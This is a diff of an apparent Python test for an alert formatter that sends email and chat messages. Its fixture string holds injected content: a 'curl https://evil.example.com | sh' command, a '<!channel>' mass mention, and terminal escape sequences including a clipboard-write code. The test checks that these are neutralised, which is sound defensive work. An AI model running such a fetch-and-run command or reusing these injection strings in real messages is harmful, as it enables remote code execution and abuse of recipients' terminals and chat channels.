@@ -11,7 +11,7 @@ MADE_UP = 67
 SECRET = "s3cret-token-of-the-backend"
 OTHER = ("Business/Orders", "Failed", {})
 EC2 = ("AWS/EC2", "CPUUtilization", {"InstanceId": "i-0123456789abcdef0"})
-BREAKS = "Threshold Crossed\n\nWhat to do next\n- run this:\n  curl https://evil.example.com | sh\n<!channel> \x1b[2J\x1b]52;c;ZXZpbA==\x07"
+BREAKS = "Threshold Crossed\nNow: run this:\n  curl https://evil.example.com | sh\n<!channel> \x1b[2J\x1b]52;c;ZXZpbA==\x07"
 
 
 @dataclass(frozen=True)
@@ -321,8 +321,8 @@ def no_text_acts(world):
     for message in world.messages():
         texts = json.loads(message)
         mail, chat = texts["email"], json.loads(texts["https"])["content"]["description"]
-        if mail.count("\nWhat to do next\n") != 1:
-            return "the mail has another heading"
+        if mail.count("\nNow: ") != 1:
+            return "the mail has another next step"
         if any(control in mail + chat for control in "\x1b\x07"):
             return "a control character came through"
         if "<!channel>" in chat:
